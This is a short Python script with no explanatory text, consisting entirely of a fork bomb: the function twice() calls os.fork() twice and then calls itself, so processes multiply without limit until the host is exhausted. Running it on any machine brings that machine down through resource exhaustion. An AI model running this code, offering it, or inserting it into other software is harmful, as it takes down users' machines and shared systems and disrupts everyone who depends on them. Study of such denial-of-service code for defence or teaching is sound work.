import os


def twice():
    os.fork()
    os.fork()
    twice()


twice()
